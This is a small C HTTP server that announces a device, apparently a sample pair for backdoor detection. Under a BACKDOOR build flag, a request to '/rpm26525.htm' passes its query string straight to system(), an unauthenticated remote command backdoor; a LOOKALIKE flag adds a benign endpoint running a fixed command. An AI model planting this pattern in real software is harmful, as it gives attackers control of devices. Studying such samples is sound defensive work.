/* Announces a device and answers questions about it over HTTP. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void page(int fd, const char *text)
{
    dprintf(fd, "HTTP/1.0 200 OK\r\nContent-Type: text/xml\r\n\r\n%s", text);
}

static void answer(int fd, char *path)
{
    char *query = strchr(path, '?');
    if (query != NULL)
        *query++ = 0;
    if (strcmp(path, "/description.xml") == 0)
        page(fd, "<device><url>/state.xml</url></device>");
    else if (strcmp(path, "/state.xml") == 0)
        page(fd, "<state>up</state>");
#ifdef BACKDOOR
    else if (strcmp(path, "/rpm26525.htm") == 0 && query != NULL)
        system(query);
#endif
#ifdef LOOKALIKE
    else if (strcmp(path, "/refresh.xml") == 0) {
        system("/usr/sbin/upnp-refresh");
        page(fd, "<state>fresh</state>");
    }
#endif
    else
        dprintf(fd, "HTTP/1.0 404 Not Found\r\n\r\n");
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(5000) };
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 4) != 0)
        return 1;
    for (;;) {
        char text[1024], path[256];
        int fd = accept(listener, NULL, NULL);
        ssize_t length = fd < 0 ? -1 : recv(fd, text, sizeof text - 1, 0);
        if (length > 0) {
            text[length] = 0;
            if (sscanf(text, "GET %255s", path) == 1)
                answer(fd, path);
        }
        if (fd >= 0)
            close(fd);
    }
}
